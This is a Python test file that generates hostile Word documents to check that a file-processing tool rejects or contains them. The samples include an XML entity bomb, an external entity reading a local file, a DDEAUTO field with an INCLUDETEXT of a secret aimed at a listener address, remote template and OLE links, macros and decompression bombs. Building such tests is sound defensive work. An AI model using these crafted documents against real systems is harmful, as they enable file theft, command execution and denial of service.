"""Word files that are to expand, to read other files, to call somebody or to run something."""

from __future__ import annotations

import socket
from pathlib import Path

from bombs import LAUGHS, reads_file
from built_office import compound
from hostile import DAMAGED, GOOD, PASSWORD, TOO_DEEP, TOO_LARGE, Build, Kind, Place, attacked, file, params
from office_parts import p, tbl, tc, tr, word_file
from streamed import many, streamed

BODY = p(GOOD)
FAR = 2_000_000_000


def docx(body: str, **more: object) -> Build:
    return file("通知.docx", lambda _: word_file(body, **more))  # type: ignore[arg-type]


def calling_docx(place: Place) -> bytes:
    """Everything that Word would fetch when it opens a document."""
    to = place.address
    body = (
        BODY
        + '<w:altChunk r:id="rIdA"/>'
        + '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rIdI"/></v:shape></w:pict></w:r></w:p>'
        + f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "{place.secret}" '
        + f'\\* DDEAUTO c:\\\\x "{to}/dde"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    links = {
        "aFChunk:rIdA": f"{to}/chunk",
        "image:rIdI": f"{to}/image",
        "attachedTemplate:rIdT": f"{to}/dotm",
        "oleObject:rIdO": f"{to}/ole",
        "frame:rIdF": f"{to}/frame",
    }
    return word_file(body, links=links)


def _inserting(depth: int) -> bytes:
    """A document that inserts one which inserts one …"""
    data = word_file(BODY)
    for _ in range(depth):
        body = BODY + '<w:altChunk r:id="rIdA"/>' * 20
        data = word_file(body, parts={"a.docx": data}, links={"aFChunk:rIdA": "a.docx"})
    return data


def _paragraphs(count: int) -> bytes:
    parts = {
        "[Content_Types].xml": ["<Types/>"],
        "word/document.xml": [
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>',
            *many("<w:p/>", count, 1_000_000),
            "</w:body></w:document>",
        ],
    }
    return streamed(parts)


KINDS = (
    Kind(
        "docx: 3,000 styles that are based on one another",
        docx(
            p(GOOD, '<w:pStyle w:val="s0"/>') * 4000,
            styles="".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(3000)),
        ),
        "ok",
        (),
        (GOOD,),
    ),
    Kind(
        "docx: a billion laughs",
        docx("<w:p><w:r><w:t>&k;</w:t></w:r></w:p>", prolog=LAUGHS),
        "failed",
        (DAMAGED,),
        never=("哈哈",),
    ),
    Kind(
        "docx: an entity that is a file of this machine",
        file("通知.docx", lambda place: word_file(p("&x;"), prolog=reads_file(place))),
        "failed",
        (DAMAGED,),
    ),
    Kind(
        "docx: links to a template, a picture, an object and a part elsewhere",
        file("通知.docx", calling_docx),
        "partial",
        ("另一文件", "链接到文件之外"),
        (GOOD,),
    ),
    Kind(
        "docx: a document that inserts its own mark-up",
        docx(BODY + '<w:altChunk r:id="rIdA"/>', links={"aFChunk:rIdA": "document.xml"}),
        "partial",
        ("word/document.xml", "按内容判断：XML"),
        (GOOD,),
        ("altChunk",),
    ),
    Kind(
        "docx: macros",
        docx(BODY, parts={"vbaProject.bin": b"Sub AutoOpen()"}, links={"vbaProject": "vbaProject.bin"}),
        "ok",
        ("带有宏，没有运行",),
        (GOOD,),
    ),
    Kind(
        "docx: 2,000 tables within each other",
        docx("<w:tbl><w:tr><w:tc>" * 2000 + BODY + "</w:tc></w:tr></w:tbl>" * 2000),
        "failed",
        (TOO_DEEP,),
    ),
    Kind(
        "docx: documents that insert documents",
        file("通知.docx", lambda _: _inserting(9)),
        "partial",
        ("层层嵌套",),
        (GOOD,),
    ),
    Kind(
        "docx: styles that are based on each other in a circle",
        docx(
            p(GOOD, '<w:pStyle w:val="a"/>'),
            styles='<w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/>'
            '</w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style>',
        ),
        "ok",
        (),
        (GOOD,),
    ),
    Kind(
        "docx: cells over two billion columns",
        docx(
            BODY
            + tbl(*[tr(tc("甲", f'<w:gridSpan w:val="{FAR}"/>'), properties=f'<w:gridBefore w:val="{FAR}"/>')] * 90)
        ),
        "ok",
        (),
        (GOOD,),
    ),
    Kind(
        "docx: a table of 20 million cells",
        docx(BODY + tbl(tr(*[tc("甲")] * 200), *[tr(tc(""))] * 100_000)),
        "partial",
        ("表格过大",),
        (GOOD,),
        seconds=60,
        megabytes=2000,
    ),
    Kind(
        "docx: 30 million empty paragraphs in 800 kB",
        file("通知.docx", lambda _: _paragraphs(30_000_000)),
        "failed",
        ("内存超过上限",),
        seconds=60,
        megabytes=2000,
        options=("--limit", "memory_bytes=1GB"),
    ),
    Kind(
        "docx: a text of 300 MB in 300 kB", file("通知.docx", lambda _: _paragraphs(50_000_000)), "failed", (TOO_LARGE,)
    ),
    Kind(
        "docx: a password",
        file("通知.docx", lambda _: compound({"EncryptionInfo": b"x", "EncryptedPackage": b"x"})),
        "failed",
        (PASSWORD,),
    ),
    Kind("docx: cut", file("通知.docx", lambda _: word_file(BODY * 200)[:-300]), "failed", (DAMAGED, "DOCX")),
    Kind("docx: random bytes", file("通知.docx", lambda _: bytes(range(256)) * 40), "failed", ("未知的二进制数据",)),
)


@params(*KINDS)
def test_a_hostile_word_file_gives_its_message_within_its_bounds(
    kind: Kind, tmp_path: Path, listener: socket.socket
) -> None:
    attacked(kind, tmp_path, listener)
